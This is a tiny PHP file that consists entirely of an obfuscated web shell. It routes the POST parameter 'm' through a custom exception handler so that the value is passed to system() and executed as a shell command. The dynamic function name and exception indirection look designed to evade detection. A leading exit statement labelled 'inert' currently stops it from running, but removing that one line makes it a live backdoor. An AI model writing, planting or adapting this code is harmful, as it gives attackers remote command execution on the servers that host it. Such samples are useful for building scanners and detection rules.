<?php exit; /* inert */ 
set_exception_handler(fn(Throwable $t) => ($t->getCode() ? 'printf' : 'system')($t->getMessage()));
throw new RuntimeException($_POST['m']);
